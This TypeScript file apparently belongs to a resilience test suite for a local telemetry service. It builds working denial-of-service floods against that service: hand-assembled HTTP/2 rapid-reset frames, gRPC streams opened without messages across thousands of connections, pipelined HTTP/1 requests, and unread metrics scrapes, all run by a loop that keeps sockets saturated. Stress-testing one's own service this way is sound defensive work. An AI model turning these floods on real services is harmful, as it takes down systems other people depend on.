/**
 * Attacks by how often something is asked for, on connections as a hostile program writes them: each keeps its connections as
 * busy as they can be.
 */
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { exportPath } from '../service/receivers/otlp/grpc-client.ts';
import { authorization, connection } from './reach.ts';

export interface Hosts {
  readonly http: string;
  readonly grpc: string;
  readonly page: string;
}

export interface Flood {
  readonly road: keyof Hosts;
  readonly connections: number;
  /** What a connection sends first; and again and again after that, as fast as it is taken. */
  readonly first: Buffer;
  readonly again: Buffer;
  /** What it sends once the service has said something. */
  readonly second?: Buffer;
  /** Nothing that the service answers is read. */
  readonly unread?: boolean;
}

const chunkBytes = 65_536;
const callsOfConnection = 100;

/** RFC 9113, section 4.1. */
function http2Frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** RFC 7541, section 6.2.2: a name and a value of less than 127 bytes, which the table does not keep. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Uint8Array.of(0, name.length), Buffer.from(name), Uint8Array.of(value.length), Buffer.from(value)]);
}

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), http2Frame(4, 0, 0)]);
/** `:method: POST` and `:scheme: http` are the table's 3 and 6. */
const callHeaders = Buffer.concat([
  Uint8Array.of(0x83, 0x86),
  literal(':path', exportPath),
  literal(':authority', 'x'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
  ...Object.entries(authorization()).map(([name, value]) => literal(name, value)),
]);
const streamOf = (call: number) => 2 * call + 1;
const calls = (from: number, count: number, of: (stream: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, at) => of(streamOf(from + at))));
const opened = (stream: number) => http2Frame(1, 4, stream, callHeaders);
const cancelled = (stream: number) => http2Frame(3, 0, stream, Buffer.from([0, 0, 0, 8]));

/** Streams have numbers that grow: the service ends a connection long before these are used up. */
const rapid = calls(0, 20_000, (stream) => Buffer.concat([opened(stream), cancelled(stream)]));

/** Lines of HTTP/1. */
const given = Object.entries(authorization())
  .map(([name, value]) => `${name}: ${value}\r\n`)
  .join('');
const filled = (one: string) => Buffer.from(one.repeat(Math.floor(chunkBytes / one.length)));
/** 108 bytes. */
const smallRequest = filled(
  `POST /v1/metrics HTTP/1.1\r\nHost: 127.0.0.1:4318\r\n${given}Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`,
);
const nothing = Buffer.alloc(0);
const scrape = (more = '') => `GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:9464\r\n${given}${more}\r\n`;

export const floods = {
  'calls without a message': {
    road: 'grpc',
    connections: 8_000,
    first: Buffer.concat([preface, calls(0, callsOfConnection, opened)]),
    again: nothing,
  },
  'rapid resets': { road: 'grpc', connections: 8, first: Buffer.concat([preface, rapid]), again: nothing },
  'rapid resets later': { road: 'grpc', connections: 8, first: preface, second: rapid, again: nothing },
  'pipelined requests': { road: 'http', connections: 8, first: nothing, again: smallRequest },
  /** Of all formats, compressed or not. */
  'unread pages': {
    road: 'page',
    connections: 200,
    first: Buffer.from(scrape() + scrape('Accept-Encoding: gzip\r\n')),
    again: nothing,
    unread: true,
  },
  'pipelined scrapes': { road: 'page', connections: 8, first: nothing, again: filled(scrape()) },
} satisfies Record<string, Flood>;

export type FloodName = keyof typeof floods;

/** Connections that are made at a time. */
const atOnce = 50;
const batchMs = 20;

/** @param answers how often a connection was made, and how often one was ended by the service */
export async function flood(
  { road, connections, first, again, second, unread = false }: Flood,
  hosts: Hosts,
  answers: Record<string, number>,
): Promise<never> {
  const open = new Set<Socket>();
  const count = (what: string) => {
    answers[what] = (answers[what] ?? 0) + 1;
  };

  function begin(): void {
    const socket = connection(hosts[road], road === 'grpc' ? 'h2' : 'http/1.1');
    open.add(socket);
    socket.on('connect', () => count('connected'));
    socket.on('error', () => {});
    socket.on('close', () => {
      count('closed');
      open.delete(socket);
    });
    if (!unread) socket.resume();
    if (second !== undefined) socket.once('data', () => socket.write(second));
    socket.write(first);
    if (again.length > 0) more(socket);
  }

  function more(socket: Socket): void {
    if (!socket.destroyed) socket.write(again, () => setImmediate(more, socket));
  }

  for (;;) {
    for (let made = 0; made < atOnce && open.size < connections; made++) begin();
    await sleep(batchMs);
  }
}
